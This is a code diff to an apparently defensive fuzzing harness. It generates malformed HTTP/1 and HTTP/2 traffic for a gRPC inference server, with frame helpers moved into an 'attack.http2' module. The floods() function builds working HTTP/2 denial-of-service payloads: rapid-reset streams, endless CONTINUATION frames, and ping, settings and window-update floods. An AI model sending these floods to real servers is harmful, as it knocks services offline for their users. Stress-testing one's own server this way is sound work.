@@ -8,6 +8,8 @@ from itertools import pairwise
 
 import numpy as np
 
+from attack.http2 import PREFACE, frame
+
 Address = str | tuple[str, int]
 """Of a Unix socket, or host and port."""
 
@@ -57,7 +59,6 @@ _BODIES = (
     b"5;a=b\r\nhello\r\n0\r\nt: v\r\n\r\n",
 )
 _BODIES += (b"[" * 5000, b'{"inputs":[]}', b"\x1f\x8b\x08" + bytes(50))
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 def http1(random: np.random.Generator) -> bytes:
@@ -73,45 +74,50 @@ def http1(random: np.random.Generator) -> bytes:
 
 def http2(random: np.random.Generator) -> bytes:
     """A preface and frames of all types, flags, streams and lengths, some of them as they should be."""
-    parts = [_PREFACE, _frame(4, 0, 0, b"")]
+    parts = [PREFACE, frame(4, 0, 0, b"")]
     for _ in range(int(random.integers(1, 30))):
         kind, stream = int(random.integers(0, 11)), int(random.choice([0, 1, 1, 3, 5, 2**31 - 1]))
         payload = random.bytes(int(random.choice([0, 4, 5, 6, 8, 9, 200, 16_384])))
         if kind == 1:
             payload = b"\x83\x86\x44\x1f/inference.GRPCInferenceService\x41\x01a\x5f\x10application/grpc"
-        parts.append(_frame(kind, int(random.choice([0, 1, 4, 5, 8, 32, 255])), stream, payload))
+        parts.append(frame(kind, int(random.choice([0, 1, 4, 5, 8, 32, 255])), stream, payload))
     return _changed(b"".join(parts), random) if random.random() < 0.5 else b"".join(parts)
 
 
 def floods() -> Iterator[bytes]:
     """What costs its sender little: resets, CONTINUATION without end, pings, settings, empty frames, windows."""
     head = b"\x83\x86\x44\x01/\x41\x01a"
-    start = _PREFACE + _frame(4, 0, 0, b"")
-    yield start + b"".join(_frame(1, 4, n, head) + _frame(3, 0, n, bytes(4)) for n in range(1, 4001, 2))
-    yield start + _frame(1, 0, 1, head) + _frame(9, 0, 1, b"\x00\x01x\x01y" * 200) * 1000
-    yield start + _frame(6, 0, 0, bytes(8)) * 20_000
-    yield start + _frame(4, 0, 0, struct.pack(">HI", 4, 1)) * 20_000
-    yield start + _frame(1, 4, 1, head) + _frame(0, 0, 1, b"") * 50_000
-    yield start + _frame(1, 4, 1, head) + _frame(8, 0, 1, struct.pack(">I", 1)) * 50_000
-    yield start + _frame(2, 0, 1, bytes(5)) * 50_000
+    start = PREFACE + frame(4, 0, 0, b"")
+    yield start + b"".join(frame(1, 4, n, head) + frame(3, 0, n, bytes(4)) for n in range(1, 4001, 2))
+    yield start + frame(1, 0, 1, head) + frame(9, 0, 1, b"\x00\x01x\x01y" * 200) * 1000
+    yield start + frame(6, 0, 0, bytes(8)) * 20_000
+    yield start + frame(4, 0, 0, struct.pack(">HI", 4, 1)) * 20_000
+    yield start + frame(1, 4, 1, head) + frame(0, 0, 1, b"") * 50_000
+    yield start + frame(1, 4, 1, head) + frame(8, 0, 1, struct.pack(">I", 1)) * 50_000
+    yield start + frame(2, 0, 1, bytes(5)) * 50_000
 
 
-def send(address: Address, data: bytes, random: np.random.Generator, patience: float = 0.05) -> None:
-    """Send in some pieces, read what comes within `patience` seconds, hang up."""
+def send(address: Address, data: bytes, random: np.random.Generator, patience: float = 0.05) -> bool:
+    """Send in some pieces, read what comes within `patience` seconds, hang up. Whether somebody was there."""
     family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
-    with closing(socket.socket(family)) as line, suppress(OSError):
+    with closing(socket.socket(family)) as line:
         line.settimeout(2.0)
-        line.connect(address)
+        try:
+            line.connect(address)
+        except OSError:
+            return False
+        _send(line, data, random, patience)
+    return True
+
+
+def _send(line: socket.socket, data: bytes, random: np.random.Generator, patience: float) -> None:
+    with suppress(OSError):
         cuts = sorted({0, len(data), *random.integers(0, len(data) + 1, int(random.integers(0, 4))).tolist()})
         for start, end in pairwise(cuts):
             line.sendall(data[start:end])
         line.settimeout(patience)
         while line.recv(65_536):
             pass
-
-
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload
 
 
 def _changed(data: bytes, random: np.random.Generator) -> bytes:
